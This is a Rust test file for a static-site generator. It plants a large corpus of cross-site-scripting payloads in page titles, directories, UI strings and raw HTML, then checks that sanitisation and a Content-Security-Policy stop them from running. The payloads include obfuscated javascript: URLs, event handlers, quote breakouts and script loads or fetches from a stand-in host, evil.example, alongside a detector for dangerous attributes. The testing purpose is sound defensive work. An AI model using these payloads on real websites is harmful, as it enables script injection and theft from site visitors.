//! The hostile-input corpus (issue 9), checked in headless Chromium.
//!
//! Builds two fixture sites full of payloads that try to run script — raw HTML with
//! `<script>`, event handlers, `javascript:`/`data:`/`vbscript:` URLs however obfuscated,
//! attributes breaking out of their quotes, `</script>`, `<!--`, `]]>`, template and Fluent
//! syntax — in every text an editor controls: page titles, descriptions, headings, slugs, the
//! office directory (names, addresses, phone labels, kinds, services, regions), hotline
//! labels, language names, the site title, the site's own UI strings, and the text search
//! shows. Every payload calls `alert()`, a trap function or a URL on another origin.
//!
//! - site A keeps the default, sanitised raw HTML: this test checks its HTML for anything
//!   that runs, and `tests/browser/hostile.test.mjs` loads every page (over http and from
//!   disk), hovers, focuses and toggles what is there, searches for words next to hostile
//!   text, and asserts that nothing ran, nothing was requested from another origin, and the
//!   hostile text is shown as text;
//! - site B sets `trust_html: true`, so the payloads reach the pages as written: there the
//!   Content-Security-Policy must block every one of them.
//!
//! Needs `node`, `/usr/bin/chromium` and `npm ci` in tests/browser, as tests/browser.rs.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

/// `@` in a payload is replaced by its name, so that a payload that runs says which it is.
fn named(template: &str, name: &str) -> String {
    template.replace('@', name)
}

/// A hostile text for a field that is shown as text: every way out of an element, an
/// attribute, a script or a comment, and template syntax.
fn evil(name: &str) -> String {
    named(
        "@ </title></textarea></script><script>alert('@')</script><img src=x onerror=alert('@')>\"'><svg onload=alert('@')> <!-- ]]> {{ 7*7 }} {% raw %} ${7*7} javascript:alert('@') \u{2028}end",
        name,
    )
}

/// The same for Fluent files, where `{` starts a placeable.
fn evil_ftl(name: &str) -> String {
    named(
        "@ </title></script><script>alert('@')</script><img src=x onerror=alert('@')>\"'><svg onload=alert('@')> <!-- ]]> javascript:alert('@')",
        name,
    )
}

/// A YAML double-quoted scalar (JSON strings are valid YAML).
fn yq(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// Raw HTML payloads, one HTML block each.
const RAW_HTML: &[&str] = &[
    "<script>alert('@')</script>",
    "<script src=\"https://evil.example/@.js\"></script>",
    "<script>fetch('https://evil.example/@')</script>",
    "<img src=data:,x onerror=\"alert('@')\">",
    "<img src=\"https://evil.example/@.png\" alt=\"external image @\">",
    "<img srcset=\"https://evil.example/@.png 1x\" alt=\"srcset @\">",
    "<body onload=alert('@')>",
    "<svg onload=alert('@')><circle r=\"1\"></circle></svg>",
    "<svg><animate onbegin=alert('@') attributeName=x dur=1s></animate></svg>",
    "<details ontoggle=alert('@') open><summary>toggle @</summary>details text @</details>",
    "<details ontoggle=alert('@')><summary>closed toggle @</summary>closed details @</details>",
    "<div onmouseover=\"alert('@')\" onmouseenter=\"alert('@')\">hover @</div>",
    "<p onclick=\"alert('@')\" onfocus=\"alert('@')\" tabindex=0>click @</p>",
    "<x onclick=alert('@')>unknown element @</x>",
    "<a href=\"javascript:alert('@')\">js link @</a>",
    "<a href=\"JaVaScRiPt:alert('@')\">mixed case @</a>",
    "<a href=\"&#106;avascript:alert('@')\">entity @</a>",
    "<a href=\"&#x6A;&#x61;vascript&#58;alert('@')\">hex entity @</a>",
    "<a href=\"&#0000106&#0000097vascript:alert('@')\">padded entity @</a>",
    "<a href=\"java&#x09;script:alert('@')\">tab @</a>",
    "<a href=\"java&#x0A;script:alert('@')\">newline @</a>",
    "<a href=\" &#14; javascript:alert('@')\">control @</a>",
    "<a href=\"javascript&colon;alert('@')\">named colon @</a>",
    "<a href=\"vbscript:alert('@')\">vbscript @</a>",
    "<a href=\"VBScript:alert('@')\">vbscript case @</a>",
    "<a href=\"data:text/html,<script>alert('@')</script>\">data @</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data base64 @</a>",
    "<a href=\"#\" onclick=\"alert('@')\">onclick @</a>",
    "<a href=\"//evil.example/@\" id=\"location\">protocol-relative @</a>",
    "<a title='x\" onmouseover=\"alert(`@`)'>quote break @</a>",
    "<a title=\"x' onmouseover='alert(1)\">single quote break @</a>",
    "<img src=\"x` `<script>alert('@')</script>\"` `>",
    "<img \"\"\"><script>alert('@')</script>\">",
    "<iframe src=\"javascript:alert('@')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('@')</script>\"></iframe>",
    "<object data=\"javascript:alert('@')\"></object>",
    "<embed src=\"javascript:alert('@')\">",
    "<form action=\"javascript:alert('@')\"><button>submit @</button></form>",
    "<button formaction=\"javascript:alert('@')\">formaction @</button>",
    "<input onfocus=alert('@') autofocus>",
    "<select onfocus=alert('@') autofocus><option>x</option></select>",
    "<textarea onfocus=alert('@') autofocus>x</textarea>",
    "<video><source onerror=\"alert('@')\"></video>",
    "<audio src=data:,x onerror=alert('@')></audio>",
    "<marquee onstart=alert('@')>marquee @</marquee>",
    "<math><mtext><table><mglyph><style><img src=data:,x onerror=alert('@')></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=data:,x onerror=alert('@')>\"></noscript>",
    "<p style=\"background:url(javascript:alert('@'))\">style url @</p>",
    "<p style=\"background-image:url(https://evil.example/@.png)\">style image @</p>",
    "<style>@import 'https://evil.example/@.css'; body { background: url(https://evil.example/@.png) }</style>",
    "<link rel=stylesheet href=\"https://evil.example/@.css\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('@')\">",
    "<svg><a xlink:href=\"javascript:alert('@')\"><text y=\"20\">svg link @</text></a></svg>",
    "<table background=\"javascript:alert('@')\"><tr><td>table @</td></tr></table>",
    "<!--<img src=data:,x onerror=alert('@')>-->",
    "<![CDATA[<img src=data:,x onerror=alert('@')>]]>",
    "</script><script>alert('@')</script>",
    "<div id=\"search\" data-search-base=\"https://evil.example/\">clobber @</div>",
    "<button data-offline-save=\"https://evil.example/@.json\">offline @</button>",
];

/// Raw HTML for site B (trust_html): payloads the Content-Security-Policy must block. Left out:
/// navigation to other sites (a meta refresh or a link the reader follows), which no CSP stops.
const TRUSTED_HTML: &[&str] = &[
    "<script>alert('@')</script>",
    "<script src=\"https://evil.example/@.js\"></script>",
    "<script src=\"data:text/javascript,alert('@')\"></script>",
    "<img src=data:,x onerror=\"alert('@')\">",
    "<img src=\"https://evil.example/@.png\" alt=\"external @\">",
    "<svg onload=alert('@')><circle r=\"1\"></circle></svg>",
    "<details ontoggle=alert('@') open><summary>toggle @</summary>details @</details>",
    "<div onmouseover=\"alert('@')\">hover @</div>",
    "<a href=\"javascript:alert('@')\" id=\"js-link-@\">js link @</a>",
    "<iframe src=\"data:text/html,<script>alert('@')</script>\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('@')</script>\"></iframe>",
    "<object data=\"https://evil.example/@.swf\"></object>",
    "<embed src=\"https://evil.example/@.swf\">",
    "<link rel=stylesheet href=\"https://evil.example/@.css\">",
    "<style>@import 'https://evil.example/@.css';</style>",
    "<p style=\"background-image:url(https://evil.example/@.png)\">style image @</p>",
    "<video src=\"https://evil.example/@.mp4\"></video>",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/@\" id=\"form-@\"><button>send @</button></form>",
];

/// A tiny PNG for the image links of the fixture.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00,
    0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49,
    0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d,
    0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

fn write(root: &Path, path: &str, bytes: &[u8]) {
    let file = root.join(path);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(file, bytes).unwrap();
}

fn raw_blocks(payloads: &[&str], prefix: &str) -> String {
    payloads.iter().enumerate().map(|(i, p)| named(p, &format!("{prefix}{i}")) + "\n\n").collect()
}

/// Site A: hostile text everywhere, raw HTML sanitised (the default).
fn hostile_site(root: &Path) {
    let config = format!(
        "title:\n  zh-Hans: {}\n  en: {}\n\
         default_language: zh-Hans\n\
         languages:\n  - {{ code: zh-Hans, name: {} }}\n  - {{ code: en, name: {} }}\n\
         hotlines:\n  - number: \"12333\"\n    label: {{ zh-Hans: {}, en: {} }}\n\
         downloads: true\n",
        yq(&evil("site-title-zh")),
        yq(&evil("site-title-en")),
        yq(&format!("简体中文 {{ $source }} {}", evil("language-zh"))),
        yq(&format!("English {{ $language }} {}", evil("language-en"))),
        yq(&evil("hotline-zh")),
        yq(&evil("hotline-en")),
    );
    write(root, "handbook.yaml", config.as_bytes());
    let page = |title: &str, description: &str, body: &str| {
        format!("---\ntitle: {}\ndescription: {}\n---\n{body}", yq(&evil(title)), yq(&evil(description)))
    };
    write(
        root,
        "content/_index.md",
        page("home-title-zh", "home-description-zh", "见[原始](evil/raw.md)和[搜索](evil/bait.md)。\n").as_bytes(),
    );
    write(
        root,
        "content/_index.en.md",
        page("home-title-en", "home-description-en", "See [raw](evil/raw.md) and [bait](evil/bait.md).\n").as_bytes(),
    );
    write(root, "content/evil/_index.md", page("section-title", "section-description", "Section.\n").as_bytes());
    let raw = format!(
        "## <img src=data:,x onerror=alert('heading-raw')> Heading `</script><script>alert('heading-code')</script>`\n\n{}",
        raw_blocks(RAW_HTML, "raw-")
    );
    write(root, "content/evil/raw.md", page("raw-title", "raw-description", &raw).as_bytes());
    let markdown = "\
## Links and images\n\n\
[titled link](https://example.org/ \"t\\\" onmouseover=\\\"alert('link-title')\")\n\n\
![alt\" onerror=\"alert('image-alt')](pic.png \"title\\\" onload=\\\"alert('image-title')\")\n\n\
\
[external page](https://evil.example/page) [phone](tel:12333) [mail](mailto:help@example.org)\n\n\
[the hostile kind](directory:kind/k-evil) and [the slugged page](slugged.md)\n\n\
## Code `</script><script>alert('code-span')</script>`\n\n\
```html\n</script><script>alert('code-block')</script><!--\n```\n\n\
| <img src=data:,x onerror=alert('table-head')> | b |\n|---|---|\n| <img src=data:,x onerror=alert('table-cell')> | `</style>` |\n\n\
Note[^evil].\n\n\
[^evil]: <script>alert('footnote')</script> footnote text\n\n\
- [ ] task <img src=data:,x onerror=alert('task')>\n\
- [x] done\n\n\
&lt;script&gt;alert('entity-text')&lt;/script&gt; and \\<img src=x onerror=alert('escaped-text')>\n";
    write(root, "content/evil/markdown.md", page("markdown-title", "markdown-description", markdown).as_bytes());
    write(root, "content/evil/pic.png", PNG);
    write(
        root,
        "content/evil/slugged.md",
        format!(
            "---\ntitle: {}\nslug: {}\n---\nA page whose address is hostile.\n",
            yq(&evil("slug-title")),
            yq("s\"'><svg_onload=alert('slug')>&amp;x=1")
        )
        .as_bytes(),
    );
    // Words to search for, next to hostile text (escaped, so that it is text in the index).
    write(
        root,
        "content/evil/bait.md",
        format!(
            "---\ntitle: {}\ndescription: {}\n---\nzebrafinch \\<img src=x onerror=alert('excerpt-en')> zebrafinch `</script><script>alert('excerpt-code')</script>` zebrafinch\n\nconstructor prototype tostring\n",
            yq(&evil("bait-title-zh")),
            yq(&evil("bait-description-zh"))
        )
        .as_bytes(),
    );
    write(
        root,
        "content/evil/bait.en.md",
        format!(
            "---\ntitle: {}\n---\nzebrafinch \\<img src=x onerror=alert('excerpt-en')> zebrafinch `</script><script>alert('excerpt-code')</script>` zebrafinch\n\nThe constructor of the prototype.\n",
            yq(&evil("bait-title-en"))
        )
        .as_bytes(),
    );
    write(
        root,
        "content/evil/bait-zh.md",
        format!(
            "---\ntitle: {}\n---\n斑马雀 \\<img src=x onerror=alert('excerpt-zh')> 斑马雀\n",
            yq(&evil("bait-zh-title"))
        )
        .as_bytes(),
    );
    // The office directory.
    let regions = format!(
        "gd:\n  name: {{ zh-Hans: {}, en: {} }}\n  children:\n    sz: {{ name: {{ zh-Hans: {}, en: {} }} }}\n",
        yq(&evil("region-zh")),
        yq(&evil("region-en")),
        yq(&evil("city-zh")),
        yq(&evil("city-en"))
    );
    write(root, "content/offices/_regions.yaml", regions.as_bytes());
    let services = format!(
        "kinds:\n  k-evil: {{ zh-Hans: {}, en: {} }}\nservices:\n  s-evil: {{ zh-Hans: {}, en: {} }}\n",
        yq(&evil("kind-zh")),
        yq(&evil("kind-en")),
        yq(&evil("service-zh")),
        yq(&evil("service-en"))
    );
    write(root, "content/offices/_services.yaml", services.as_bytes());
    let office = format!(
        "- id: evil-office\n  kind: k-evil\n  name: {{ zh-Hans: {}, en: {} }}\n  region: gd/sz\n  address: {{ zh-Hans: {}, en: {} }}\n  geo: [22.5, 114.0]\n  phones:\n    - {{ number: \"+86 755 0000 0000\", label: {{ zh-Hans: {}, en: {} }} }}\n  hours: \"Mo-Fr 09:00-17:00\"\n  services: [s-evil]\n  languages: [zh-Hans]\n  website: {}\n  source: {}\n  last_verified: 2026-10-01\n  example: true\n",
        yq(&evil("office-zh")),
        yq(&evil("office-en")),
        yq(&evil("address-zh")),
        yq(&evil("address-en")),
        yq(&evil("phone-label-zh")),
        yq(&evil("phone-label-en")),
        yq("https://example.org/\"><script>alert('website')</script>"),
        yq("https://example.org/?a=</script><script>alert('source')</script>"),
    );
    write(root, "content/offices/gd.yaml", office.as_bytes());
    // The site's own UI strings.
    for lang in ["en", "zh-Hans"] {
        let mut ftl = String::new();
        for key in [
            "skip-to-content",
            "search-none",
            "search-found",
            "search-placeholder",
            "search-label",
            "hotlines-label",
            "languages-label",
            "not-translated",
            "choose-language",
            "not-found-text",
            "directory-intro",
            "office-example",
            "single-intro",
            "single-back",
            "toc-title",
        ] {
            ftl.push_str(&format!("{key} = {}\n", evil_ftl(&format!("ftl-{key}-{lang}"))));
        }
        ftl.push_str(&format!(
            "fallback-notice = {} {{ $language }} {{ $source }}\n",
            evil_ftl(&format!("ftl-fallback-{lang}"))
        ));
        ftl.push_str(&format!("offline-save = {} ({{ $size }})\n", evil_ftl(&format!("ftl-offline-save-{lang}"))));
        write(root, &format!("i18n/{lang}.ftl"), ftl.as_bytes());
    }
}

/// Site B: raw HTML trusted, so only the Content-Security-Policy stands between the payloads
/// and the reader.
fn trusted_site(root: &Path) {
    write(
        root,
        "handbook.yaml",
        b"title: { zh-Hans: \xe6\x89\x8b\xe5\x86\x8c, en: Trusted }\ndefault_language: zh-Hans\nlanguages:\n  - { code: zh-Hans, name: \xe4\xb8\xad\xe6\x96\x87 }\n  - { code: en, name: English }\ntrust_html: true\ndownloads: true\n",
    );
    write(root, "content/_index.md", b"---\ntitle: Trusted\n---\nSee [the page](trusted.md).\n");
    write(
        root,
        "content/trusted.md",
        format!("---\ntitle: Trusted raw HTML\n---\n{}", raw_blocks(TRUSTED_HTML, "trusted-")).as_bytes(),
    );
}

fn handbook(root: &Path, args: &[&str]) {
    let output = Command::new(env!("CARGO_BIN_EXE_handbook"))
        .arg("--root")
        .arg(root)
        .args(args)
        .env("NO_COLOR", "1")
        .env("SOURCE_DATE_EPOCH", common::SAMPLE_DAY)
        .output()
        .expect("run handbook");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "handbook {args:?} failed:\n{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

// ---------------------------------------------------------------------------------------------
// What the sanitised HTML may contain, checked without a browser

/// The start tags of an HTML text with their attributes (names lower-cased, values with
/// character references decoded), skipping comments and the text of `script` and `style`.
fn start_tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let bytes = html.as_bytes();
    let mut i = 0;
    while let Some(offset) = html[i..].find('<') {
        i += offset + 1;
        if html[i..].starts_with("!--") {
            i = html[i..].find("-->").map_or(html.len(), |end| i + end + 3);
            continue;
        }
        if !bytes.get(i).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let name_end =
            html[i..].find(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/').map_or(html.len(), |e| i + e);
        let name = html[i..name_end].to_ascii_lowercase();
        i = name_end;
        let mut attributes = Vec::new();
        loop {
            while bytes.get(i).is_some_and(|b| b.is_ascii_whitespace() || *b == b'/') {
                i += 1;
            }
            if i >= bytes.len() || bytes[i] == b'>' {
                i += 1;
                break;
            }
            let end =
                html[i..].find(|c: char| c.is_ascii_whitespace() || c == '=' || c == '>').map_or(html.len(), |e| i + e);
            let attribute = html[i..end].to_ascii_lowercase();
            i = end;
            let mut value = String::new();
            if bytes.get(i) == Some(&b'=') {
                i += 1;
                match bytes.get(i) {
                    Some(&quote) if quote == b'"' || quote == b'\'' => {
                        let close = html[i + 1..].find(quote as char).map_or(html.len(), |e| i + 1 + e);
                        value = html[i + 1..close].to_owned();
                        i = close + 1;
                    }
                    _ => {
                        let close =
                            html[i..].find(|c: char| c.is_ascii_whitespace() || c == '>').map_or(html.len(), |e| i + e);
                        value = html[i..close].to_owned();
                        i = close;
                    }
                }
            }
            attributes.push((attribute, decode_references(&value)));
        }
        if name == "script" || name == "style" {
            let close = format!("</{name}");
            i = html[i..].to_ascii_lowercase().find(&close).map_or(html.len(), |e| i + e);
        }
        tags.push((name, attributes));
    }
    tags
}

fn decode_references(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(start) = rest.find('&') {
        out.push_str(&rest[..start]);
        rest = &rest[start..];
        let end = rest.find(';').filter(|&e| e < 12);
        let entity = end.map(|e| &rest[1..e]);
        let decoded = match entity {
            Some(e) if e.starts_with("#x") || e.starts_with("#X") => {
                u32::from_str_radix(&e[2..], 16).ok().and_then(char::from_u32)
            }
            Some(e) if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            Some("amp") => Some('&'),
            Some("lt") => Some('<'),
            Some("gt") => Some('>'),
            Some("quot") => Some('"'),
            Some("colon") => Some(':'),
            Some("Tab") => Some('\t'),
            Some("NewLine") => Some('\n'),
            _ => None,
        };
        match (decoded, end) {
            (Some(c), Some(e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Whether a URL, as a browser reads it, runs script or embeds a document.
fn dangerous_url(value: &str) -> bool {
    let compact: String = value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).collect();
    let lower = compact.to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:", "livescript:", "mocha:"].iter().any(|s| lower.starts_with(s))
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "ping",
    "cite",
    "codebase",
    "lowsrc",
    "dynsrc",
];

/// Every problem in one output page.
fn problems(path: &str, html: &str) -> Vec<String> {
    let edition = path.starts_with("downloads/");
    let mut found = Vec::new();
    let mut inline_scripts = 0;
    for (tag, attributes) in start_tags(html) {
        let get = |name: &str| attributes.iter().find(|(a, _)| a == name).map(|(_, v)| v.as_str());
        for (attribute, value) in &attributes {
            if attribute.starts_with("on") {
                found.push(format!("<{tag} {attribute}=\"{value}\">"));
            }
            if attribute == "srcdoc" || (URL_ATTRIBUTES.contains(&attribute.as_str()) && dangerous_url(value)) {
                found.push(format!("<{tag} {attribute}=\"{value}\">"));
            }
            if attribute == "style" && (value.contains("url(") || value.contains("expression(")) {
                found.push(format!("<{tag} style=\"{value}\">"));
            }
        }
        match tag.as_str() {
            "script" => match (get("src"), get("type")) {
                (Some(src), None)
                    if !edition
                        && (src.contains("static/search.js?v=")
                            || src.contains("static/offline.js?v=")
                            || src.contains("static/stemmers/")) => {}
                (None, Some("application/ld+json")) => {}
                (None, None) if edition => inline_scripts += 1,
                _ => found.push(format!("a script that is not ours: {attributes:?}")),
            },
            // The 404 page is served at any depth: its links are made from the site's root.
            "base" if path == "404.html" && get("href").is_some_and(|h| h.starts_with('/') && !h.starts_with("//")) => {
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "svg" | "math" | "portal" => {
                found.push(format!("<{tag}>"))
            }
            "style" if !edition => found.push("<style>".to_owned()),
            "link" => {
                let rel = get("rel").unwrap_or("");
                let href = get("href").unwrap_or("");
                let ours = (rel == "stylesheet" && href.contains("static/style.css?v="))
                    || rel == "alternate"
                    || rel == "canonical";
                if !ours {
                    found.push(format!("<link {attributes:?}>"));
                }
            }
            "meta" if get("http-equiv").is_some_and(|h| h.eq_ignore_ascii_case("refresh")) => {
                found.push("<meta http-equiv=refresh>".to_owned())
            }
            "form" if get("action").is_some_and(|a| a.contains(':') || a.starts_with("//")) => {
                found.push(format!("<form {attributes:?}>"))
            }
            _ => {}
        }
    }
    if edition && inline_scripts != 1 {
        found.push(format!("{inline_scripts} inline scripts in an edition (its own search is the one)"));
    }
    found.into_iter().map(|p| format!("{path}: {p}")).collect()
}

#[test]
fn the_static_checker_catches_what_runs() {
    let bad = "<p onclick=\"x\">a</p><a href=\"&#106;ava&#x09;script:x\">b</a><script>alert(1)</script><iframe></iframe><p style=\"background:url(x)\"></p>";
    assert_eq!(problems("a.html", bad).len(), 5, "{:?}", problems("a.html", bad));
    let good = "<a href=\"../x/\" title=\"javascript:alert(1) onclick=\">x</a><p>&lt;script&gt;</p><script src=\"../static/search.js?v=1\" defer></script><!-- <script> -->";
    assert_eq!(problems("a.html", good), Vec::<String>::new());
}

// ---------------------------------------------------------------------------------------------

fn browser_ready(browser_dir: &Path) {
    assert!(
        browser_dir.join("node_modules/playwright-core").is_dir() && Path::new("/usr/bin/chromium").exists(),
        "the browser tests need Chromium and playwright-core: run `bash .ci/run`, or `apt-get install chromium` and `npm ci --prefix tests/browser`"
    );
}

struct Sites {
    _work: tempfile::TempDir,
    hostile: PathBuf,
    hostile_portable: PathBuf,
    trusted: PathBuf,
    trusted_portable: PathBuf,
}

fn build_sites() -> Sites {
    let work = tempfile::tempdir().expect("temporary folder");
    let a = work.path().join("a");
    let b = work.path().join("b");
    hostile_site(&a);
    trusted_site(&b);
    let out = |name: &str| work.path().join(name);
    for (root, name, portable) in
        [(&a, "site-a", false), (&a, "portable-a", true), (&b, "site-b", false), (&b, "portable-b", true)]
    {
        let target = out(name);
        let mut args = vec!["build", "--out", target.to_str().unwrap()];
        if portable {
            args.push("--portable");
        }
        handbook(root, &args);
    }
    Sites {
        hostile: out("site-a"),
        hostile_portable: out("portable-a"),
        trusted: out("site-b"),
        trusted_portable: out("portable-b"),
        _work: work,
    }
}

fn run_node(sites: &Sites) {
    let browser_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser");
    browser_ready(&browser_dir);
    let output = Command::new("node")
        .args(["--test", "--test-reporter=spec"])
        .arg(browser_dir.join("hostile.test.mjs"))
        .current_dir(&browser_dir)
        .env("HOSTILE_SITE", &sites.hostile)
        .env("HOSTILE_PORTABLE", &sites.hostile_portable)
        .env("HOSTILE_TRUSTED", &sites.trusted)
        .env("HOSTILE_TRUSTED_PORTABLE", &sites.trusted_portable)
        .output()
        .expect("run node (is Node.js installed?)");
    let report = String::from_utf8_lossy(&output.stdout);
    println!("{report}");
    assert!(output.status.success(), "browser tests failed:\n{report}\n{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn hostile_input_runs_nowhere() {
    let sites = build_sites();
    // Without a browser: the sanitised site's HTML has nothing that runs.
    let files = common::tree(&sites.hostile);
    let pages: Vec<&String> = files.keys().filter(|p| p.ends_with(".html")).collect();
    assert!(pages.len() >= 20, "{} pages", pages.len());
    let mut found = Vec::new();
    for path in &pages {
        found.extend(problems(path, &String::from_utf8_lossy(&files[*path])));
    }
    assert!(found.is_empty(), "{} problems:\n{}", found.len(), found.join("\n"));
    // Template syntax in editors' text is text.
    let home = String::from_utf8_lossy(&files["en/index.html"]);
    assert!(home.contains("{{ 7*7 }}") && !home.contains(" 49 "), "template syntax was evaluated");
    // The trusted site keeps its payloads: the browser test checks that the CSP stops them.
    let trusted = std::fs::read_to_string(sites.trusted.join("zh-Hans/trusted/index.html")).unwrap();
    assert!(trusted.contains("<script>alert('trusted-0')</script>"), "trust_html: true keeps raw HTML");
    run_node(&sites);
}
